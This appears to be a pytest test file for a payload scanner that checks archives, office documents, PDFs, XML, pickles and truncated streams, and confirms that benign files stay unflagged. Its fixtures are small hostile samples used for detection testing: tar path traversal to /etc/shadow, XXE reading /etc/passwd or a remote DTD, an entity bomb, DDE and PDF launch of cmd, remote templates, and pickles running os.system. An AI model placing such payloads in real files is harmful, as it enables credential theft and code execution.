"""Archives, documents, pickles and broken streams: what they bring along is told, and those that
bring nothing are left alone."""

from __future__ import annotations

import base64
import bz2
import collections
import datetime
import gzip
import io
import lzma
import pickle
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping

import pytest

from fumehood.scan import tokens
from fumehood.scan.payload import NamedFile, PayloadDetector
from fumehood.scan.search import Budget, Searcher
from support.scan import github_token

SEARCHER = Searcher([tokens.detector()], [], payload=PayloadDetector())
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
PE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(20)
PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def rules(data: bytes) -> set[str]:
    """What is told unless a policy says otherwise, or redacted."""
    found = SEARCHER.find(data, Budget(seconds=60), clean=True)
    return {m.rule for m in found if m.severity != "low"}


def tar(*members: tuple[str, bytes], link: tuple[str, str, bytes] | None = None) -> bytes:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as file:
        for name, content in members:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            file.addfile(info, io.BytesIO(content))
        if link is not None:
            info = tarfile.TarInfo(link[0])
            info.linkname, info.type = link[1], link[2]
            file.addfile(info)
    return held.getvalue()


def office(parts: Mapping[str, bytes | str]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as file:
        for name, text in {"[Content_Types].xml": "<Types/>", **parts}.items():
            file.writestr(name, text)
    return held.getvalue()


def rels(kind: str, target: str) -> str:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        f'<Relationships><Relationship Id="r1" Type="{base}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )


# --- archives


@pytest.mark.parametrize("packed", [bytes, gzip.compress, bz2.compress, lzma.compress])
@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (tar(("bin/tool", ELF)), "program-elf"),
        (tar(("notes.txt", f"the token is {github_token()}\n".encode())), "prefixed-token"),
        (tar(("n.gz", gzip.compress(f"token {github_token()}".encode()))), "prefixed-token"),
        (tar(("../../etc/cron.d/x", b"x")), "archive-path"),
        (tar(("/etc/passwd", b"x")), "archive-path"),
        (tar(link=("a", "/etc/shadow", tarfile.SYMTYPE)), "archive-path"),
        (tar(link=("lib/a", "../../etc/shadow", tarfile.SYMTYPE)), "archive-path"),
        (tar(link=("a", "../../etc/shadow", tarfile.LNKTYPE)), "archive-path"),
        (tar(("d" * 120 + "/../../../x", b"x")), "archive-path"),
        (tar(link=("dev", "", tarfile.CHRTYPE)), "archive-special"),
        (tar(("invoice.pdf.js", b"x")), "archive-program"),
    ],
    ids=[
        "program", "secret", "secret in gzip", "up", "absolute", "link", "link up", "hard link",
        "long name", "device", "disguised",
    ],
)  # fmt: skip
def test_what_a_tar_archive_brings_along_is_told(
    data: bytes, rule: str, packed: Callable[[bytes], bytes]
) -> None:
    assert rule in rules(packed(data))


def test_a_packed_tar_archive_is_one_level_of_two() -> None:
    data = gzip.compress(tar(("bin/tool", ELF), ("../x", b"x")))
    assert rules(base64.b64encode(data)) == {"program-elf", "archive-path"}


def test_an_old_tar_archive_without_a_magic_is_one() -> None:
    data = bytearray(tar(("../x", b"x")))
    data[257:265] = bytes(8)
    data[148:156] = b" " * 8
    data[148:156] = b"%06o\0 " % sum(data[:512])
    assert "archive-path" in rules(bytes(data))


def test_a_tar_archive_that_claims_more_than_it_holds_is_a_bomb() -> None:
    info = tarfile.TarInfo("big")
    info.size = 1 << 40
    assert "decompression-bomb" in rules(info.tobuf() + bytes(1024))


def test_an_archive_of_sources_is_left_alone() -> None:
    members = (("src/a.py", b"import os\n"), ("web/app.js", b"let a = 1\n"), ("run.sh", b"ls\n"))
    data = tar(*members, link=("src/b.py", "a.py", tarfile.SYMTYPE))
    assert rules(data) == rules(gzip.compress(data)) == set()
    assert rules(office(dict(members)).replace(b"[Content_Types]", b"other_contents!")) == set()


def test_the_members_of_an_archive_without_its_directory_are_read() -> None:
    data = office({"a.txt": f"token: {github_token()}\n"})
    assert rules(data[: data.index(b"PK\x01\x02")]) >= {"archive-broken", "prefixed-token"}


def test_a_dump_for_people_is_no_program() -> None:
    lines = (f"{at:08x}: {ELF[at : at + 16].hex(' ', 2)}  ..." for at in range(0, 64, 16))
    assert rules("\n".join(lines).encode()) == set()


# --- streams that break off


@pytest.mark.parametrize("pack", [gzip.compress, zlib.compress, bz2.compress, lzma.compress])
def test_what_a_stream_holds_before_its_end_is_missing_is_searched(
    pack: Callable[[bytes], bytes],
) -> None:
    noise = b"".join(b"%d,%d\n" % (n, n * n) for n in range(100_000))
    packed = pack(f"token {github_token()}\n".encode() + noise * 2)
    assert "prefixed-token" in rules(packed[: len(packed) - 9])


@pytest.mark.parametrize("pack", [gzip.compress, zlib.compress])
@pytest.mark.parametrize("at", [-5, -9, 400])
def test_what_a_stream_holds_before_a_fault_is_searched(
    pack: Callable[[bytes], bytes], at: int
) -> None:
    noise = b"".join(b"%d,%d\n" % (n, n * n) for n in range(2000))
    packed = bytearray(pack(f"token {github_token()}\n".encode() + noise))
    packed[at : at + 4] = bytes(0xFF ^ byte for byte in packed[at : at + 4])
    assert "prefixed-token" in rules(bytes(packed))


# --- documents


WIDE_VBA = "_VBA_PROJECT".encode("utf-16-le")
XLS = b"\x09\x08\x10\0\0\x06\x05\0" + bytes(12) + b"\x85\0\x08\0" + bytes(4) + b"\0\x01\0\0"
HARMFUL = {
    "macro renamed": (office({"word/settings.bin": OLE + WIDE_VBA}), "document-macro"),
    "macro by type": (
        office({"[Content_Types].xml": "<Override ContentType='application/vnd.ms-word.document."
                                       "macroEnabled.main+xml'/>"}),
        "document-macro",
    ),
    "macro sheet": (office({"xl/macrosheets/sheet1.xml": "<x/>"}), "document-macro"),
    "template": (
        office({"word/_rels/settings.xml.rels": rels("attachedTemplate", "http://x.example/t")}),
        "document-external",
    ),
    "template by share": (
        office({"word/_rels/settings.xml.rels": rels("attachedTemplate", "\\\\10.0.0.1\\t.dotm")}),
        "document-external",
    ),
    "object": (
        office({"word/_rels/document.xml.rels": rels("oleObject", "mhtml:http://x.example/a!x")}),
        "document-external",
    ),
    "dde in runs": (
        office({"word/document.xml": "<w:instrText>DDEAU</w:instrText><w:instrText>TO c:\\\\a.exe"
                                     "</w:instrText>"}),
        "document-dde",
    ),
    "dde link": (
        office({"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd" ddeTopic="x"/>'}),
        "document-dde",
    ),
    "basic": (
        office({"META-INF/manifest.xml": "<m/>", "content.xml": "<c/>",
                "Basic/Standard/Module1.xml": "<x>Sub Main</x>"}),
        "document-macro",
    ),
    "word 97": (OLE + WIDE_VBA, "document-macro"),
    "excel 4": (OLE + XLS, "document-macro"),
    "equation": (OLE + "Equation Native".encode("utf-16-le"), "document-object"),
    "rtf": (b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", "document-active-rtf"),
    "rtf template": (b"{\\rtf1{\\*\\template http://x.example/t}}", "document-active-rtf"),
    "pdf name": (b"%PDF-1.4\n<< /S /J#61vaScript >>", "document-active-pdf"),
    "pdf launch": (b"%PDF-1.4\n<< /S /Launch /F (cmd.exe) >>", "document-active-pdf"),
    "pdf packed": (
        b"%PDF-1.5\n4 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"
        + zlib.compress(b"<< /S /JavaScript /JS (app.alert(1)) >>") + b"\nendstream",
        "document-active-pdf",
    ),
    "entity": (
        b'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        "document-entity",
    ),
    "entity of parameters": (
        b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://x.example/e.dtd"> %x;]><a/>',
        "document-entity",
    ),
    "laughs": (
        b"<?xml version='1.0'?><!DOCTYPE a [" + b"".join(
            b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 9)
        ) + b"]><a>&l8;</a>",
        "document-entity",
    ),
    "include": (
        b'<?xml version="1.0"?><a><xi:include href="file:///etc/passwd"/></a>',
        "document-entity",
    ),
    "svg event": (b"<!-- a -->\n<svg><a onmouseover='x()'/></svg>", "document-active-svg"),
    "pickle": (b"cos\nsystem\n(S'id'\ntR.", "pickle-code"),
    "pickle in base64": (
        base64.b64encode(b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93"
                         b"\x94\x8c\x02id\x94\x85\x94R\x94."),
        "pickle-code",
    ),
    "fat mach-o": (b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(32), "program-mach-o"),
    "msi": (
        OLE + bytes.fromhex("84100c0000000000c000000000000046"), "program-msi",
    ),
    "jpeg and program": (b"\xff\xd8\xff\xe0" + bytes(40) + b"\xff\xd9" + PE, "polyglot"),
    "png and rar": (PNG + b"Rar!\x1a\x07\x01\0", "polyglot"),
    "gif and script": (b"GIF89a/*" + bytes(9) + b"*/=1;alert(1)", "polyglot"),
}  # fmt: skip


@pytest.mark.parametrize("name", HARMFUL)
def test_a_document_that_brings_something_along_is_told(name: str) -> None:
    data, rule = HARMFUL[name]
    assert rule in rules(data)


HYPERLINK = rels("hyperlink", "https://example.org/")
BENIGN = {
    "docx": office({"word/document.xml": "<w:t>Hello</w:t>", "word/media/a.png": PNG,
                    "word/_rels/document.xml.rels": HYPERLINK}),
    "xlsx": office({"xl/worksheets/sheet1.xml": "<c><v>1</v></c>",
                    "xl/externalLinks/_rels/externalLink1.xml.rels":
                        rels("externalLinkPath", "file:///C:/Users/ann/b.xlsx")}),
    "odt": office({"META-INF/manifest.xml": "<m/>", "content.xml": "<c>Hello</c>"}),
    "doc": OLE + "WordDocument".encode("utf-16-le"),
    "xls": OLE + XLS.replace(b"\0\x01\0\0", b"\0\0\0\0"),
    "rtf": b"{\\rtf1\\ansi Hello {\\b world}}",
    "pdf": b"%PDF-1.7\n<< /Type /Catalog /OpenAction [3 0 R /FitH null] /AcroForm 1 0 R >>\n"
           b"<< /Type /Annot /A << /S /URI /URI (https://example.org) >> >>",
    "pdf packed": b"%PDF-1.5\n4 0 obj\n<< /Filter /FlateDecode >>\nstream\n"
                  + zlib.compress(b"BT (hello world, page one) Tj ET") + b"\nendstream",
    "docbook": b'<?xml version="1.0"?>\n<!DOCTYPE book PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" '
               b'"http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd" [<!ENTITY v "1.2">\n'
               b'<!ENTITY % lat PUBLIC "-//W3C//ENTITIES Latin 1//EN" "http://w3.org/l.ent">]><book/>',
    "svg": b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>",
    "html": b"<!DOCTYPE html><html><script src='a.js'></script><svg onload='x()'/></html>",
    "png": PNG,
    "jpeg": b"\xff\xd8\xff\xe0" + bytes(64) + b"\xff\xd9",
    "gif": b"GIF89a\x01\0\x01\0" + bytes(20) + b";",
    "pickled data": pickle.dumps({"a": [1, 2.5], "when": datetime.date(2026, 11, 27),
                                  "o": collections.OrderedDict(a={1, 2})}),
    "a text that begins like one": b"BM is a name, MZ another\nFWS, CWS\ncats\nand dogs\n",
}  # fmt: skip


@pytest.mark.parametrize("name", BENIGN)
def test_a_document_that_brings_nothing_along_is_left_alone(name: str) -> None:
    assert rules(BENIGN[name]) == set()


@pytest.mark.parametrize(
    ("name", "data", "found"),
    [
        ("a.csv", PNG, True),
        ("a.json", b"%PDF-1.7\n", True),
        ("a.txt", b"\xff\xd8\xff\xe0" + bytes(64), True),
        ("a.md", OLE, True),
        ("a.ico", PNG, False),
        ("a.tar", tar(("a", b"x")), False),
        ("a.csv", b"BM,MZ,FWS\n1,2,3\n", False),
    ],
)
def test_a_text_by_name_that_is_none_is_told(name: str, data: bytes, *, found: bool) -> None:
    matches = NamedFile(name).find(data, seconds=1)
    assert [match.rule for match in matches] == ["type-mismatch"] * found
